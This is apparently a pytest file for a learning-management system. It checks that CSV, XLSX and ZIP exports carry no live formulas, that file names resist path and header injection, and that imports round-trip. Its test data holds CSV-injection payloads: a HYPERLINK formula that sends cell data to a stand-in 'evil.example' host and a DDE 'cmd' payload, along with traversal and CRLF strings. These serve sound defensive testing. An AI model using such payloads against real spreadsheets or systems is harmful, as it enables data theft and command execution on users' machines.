"""Spreadsheet-safe output: no CSV or XLSX the product writes carries a live formula, whatever
the roster holds, and file names made of people's names are never paths or header breaks.

- one writer: only lms/core/tabular.py creates CSV writers or XLSX workbooks;
- a sweep: hostile names in the roster and a cohort, then every download route that gives a
  CSV, an XLSX or a ZIP of them (found in the URL map, so a new one must be listed here) and
  the accounts CLI, each file inspected cell by cell;
- round trips: what the exports write, the importer reads back to the same values.
"""

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from lms.core.tabular import (
    FORMULA_LEADS,
    Column,
    canonical_phone,
    neutralise,
    read_table,
    write_csv,
    write_xlsx,
)
from lms.core.web import file_name
from tests.certificates.conftest import complete, make_cert, make_cohort, make_course  # noqa: F401
from tests.conftest import post_form

LMS = Path(__file__).resolve().parents[2] / "lms"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+SUM(1,2)", "-2+3",
           "@SUM(A1:A2)", '=cmd|" /C calc"!A0', "Đặng Thị Hà"]
SAFE_NAME = re.compile(r"[A-Za-z0-9._-]+")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")  # a number, not a formula


def test_only_the_tabular_module_writes_spreadsheets():
    """No other module builds a csv.writer / DictWriter or an openpyxl Workbook itself."""
    wrong = []
    for path in LMS.rglob("*.py"):
        if path == LMS / "core" / "tabular.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = (node.attr if isinstance(node, ast.Attribute)
                    else node.id if isinstance(node, ast.Name) else None)
            if name in {"writer", "DictWriter", "Workbook"}:
                wrong.append(f"{path.relative_to(LMS)}:{node.lineno} {name}")
    assert not wrong, wrong


def _check_csv(data: bytes, where: str) -> int:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS) or NUMBER.fullmatch(cell), (where, cell)
    return sum(len(r) for r in rows)


def _check_xlsx(data: bytes, where: str) -> int:
    cells = 0
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_LEADS):
                    assert cell.quotePrefix, (where, sheet.title, cell.coordinate, cell.value)
    return cells


def _check(data: bytes, name: str) -> str:
    """Inspect a download (recursing into ZIPs); returns the text of every cell, joined."""
    if name.endswith(".zip"):
        archive = zipfile.ZipFile(io.BytesIO(data))
        texts = []
        for member in archive.namelist():
            assert SAFE_NAME.fullmatch(member), (name, member)
            texts.append(_check(archive.read(member), member))
        return "\n".join(texts)
    if name.endswith(".csv"):
        _check_csv(data, name)
        return data.decode("utf-8-sig")
    if name.endswith(".xlsx"):
        _check_xlsx(data, name)
        return "\n".join(str(c.value) for ws in load_workbook(io.BytesIO(data)).worksheets
                         for row in ws.iter_rows() for c in row if c.value is not None)
    return ""


@pytest.fixture
def hostile(db, make_person, make_cert, make_cohort, make_course):  # noqa: F811
    """Roster people with hostile names, in a closed cohort, each with a certificate."""
    course = make_course()
    people = [make_person(full_name=name, phone=canonical_phone("+84912345678") if n == 0 else None)
              for n, name in enumerate(HOSTILE)]
    for person in people:
        make_cert(person=person, course=course)
    cohort = make_cohort(members=people, course=course)
    return {"people": people, "cohort": cohort}


def _download_urls(hostile) -> dict[str, list[str]]:
    """Every GET route giving a CSV, XLSX or ZIP, with the URLs that exercise it."""
    cohort = hostile["cohort"]
    return {
        "units.roster_export": ["/units/export.csv", "/units/22/export.csv"],
        "units.roster_template": ["/units/template.xlsx"],
        "cohorts.export": [f"/cohorts/{cohort.id}/export.csv", f"/cohorts/{cohort.id}/export.xlsx"],
        "reports.export": ["/reports/coverage.csv?unit=22", "/reports/coverage.xlsx?unit=22"],
        "reports.records_template": ["/reports/records/template.xlsx"],
        "reports.untrained_export": ["/reports/untrained.csv?unit=22",
                                     "/reports/untrained.xlsx?unit=22"],
        "certificates.cohort_zip": [f"/certificates/cohort/{cohort.id}.zip"],
        "accounts.audit_export": ["/accounts/audit/export.csv", "/accounts/audit/export.xlsx"],
    }


def test_every_download_is_spreadsheet_safe(app, client, db, login_as, hostile):
    """Each route's files: no formula cell, formula-like text quoted, ZIP members named safely;
    the hostile names are really in them (the roster and cohort exports)."""
    login_as("admin")
    urls = _download_urls(hostile)
    found = {rule.endpoint for rule in app.url_map.iter_rules()
             if "GET" in rule.methods and re.search(r"\.(csv|xlsx|zip)$|<fmt>|\(csv", rule.rule)}
    assert found == set(urls), f"list every spreadsheet download here: {sorted(found ^ set(urls))}"
    seen = ""
    for paths in urls.values():
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code)
            disposition = response.headers["Content-Disposition"]
            assert "\r" not in disposition and "\n" not in disposition
            name = re.search(r'filename="?([^";]+)', disposition).group(1)
            seen += _check(response.data, name.split("?")[0])
    for name in HOSTILE[:5]:
        assert name in seen or name.replace('"', '""') in seen, name  # as values, unchanged


def test_accounts_zip_and_cli_are_spreadsheet_safe(app, client, db, login_as, runner, hostile,
                                                   tmp_path):
    """The accounts ZIP (web) and the CSV of `lms accounts from-roster` (CLI)."""
    login_as("admin")
    response = post_form(client, "/accounts/from-roster", {"unit_code": "06652"},
                         page="/accounts/from-roster")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    assert HOSTILE[0] in _check(response.data, "accounts.zip")
    db.session.rollback()
    from lms.accounts.models import User

    db.session.query(User).filter(User.person_id.is_not(None)).delete()
    db.session.commit()
    out = tmp_path / "tk.csv"
    result = runner.invoke(args=["lms", "accounts", "from-roster", "--unit", "06652",
                                 "--csv", str(out)])
    assert result.exit_code == 0, result.output
    _check_csv(out.read_bytes(), "cli")


def test_roster_export_reads_back_to_the_same_names(app, db, hostile):
    """The roster CSV export, imported again, changes nobody (names, phone kept exactly)."""
    from lms.units import services
    from lms.units.models import Person

    data = services.export_roster()
    result = services.import_roster(data, "roster.csv")
    db.session.commit()
    assert result.updated == 0 and result.new == 0 and result.unchanged == len(HOSTILE)
    names = sorted(p.full_name for p in db.session.query(Person))
    assert names == sorted(HOSTILE)


@pytest.mark.parametrize("writer", ["csv", "xlsx"])
def test_writers_round_trip_through_the_reader(writer):
    """Formula-like text written by either writer is read back by the importer unchanged."""
    columns = [Column("name", ("ten",), required=True), Column("note", ("ghi_chu",))]
    rows = [[value, f"{value} ghi chú"] for value in HOSTILE + ["'quoted", "a-b", "-", "-2"]]
    data = (write_csv(["ten", "ghi_chu"], rows) if writer == "csv"
            else write_xlsx(["ten", "ghi_chu"], rows, "t"))
    table = read_table(data, f"x.{writer}", columns)
    assert [[r["name"], r["note"]] for _n, r in table.rows] == rows


def test_neutralise_and_file_names():
    assert neutralise("=1+1") == "'=1+1" and neutralise("-2+3") == "'-2+3"
    assert neutralise("Hà") == "Hà" and neutralise(-2) == -2 and neutralise("-2.5") == "-2.5"
    for text in ('"../../etc/passwd', "a\r\nSet-Cookie: x=1", "=cmd|' /C calc'!A0", "/", "..",
                 "Đặng Thị Hà", "C:\\x\\y", "\x00"):
        name = file_name("QN-2026-000001", text, ext="pdf")
        assert SAFE_NAME.fullmatch(name) and ".." not in name and name.endswith(".pdf"), name
    assert file_name("Đặng Thị Hà", ext="csv") == "Dang-Thi-Ha.csv"


def test_a_user_made_workbook_with_formulas_is_not_the_check(tmp_path):
    """The inspector itself catches a formula (so the sweep above can fail)."""
    book = Workbook()
    book.active.append(["=1+1"])
    data = io.BytesIO()
    book.save(data)
    with pytest.raises(AssertionError):
        _check_xlsx(data.getvalue(), "self-test")
    with pytest.raises(AssertionError):
        _check_csv(b"=1+1\r\n", "self-test")
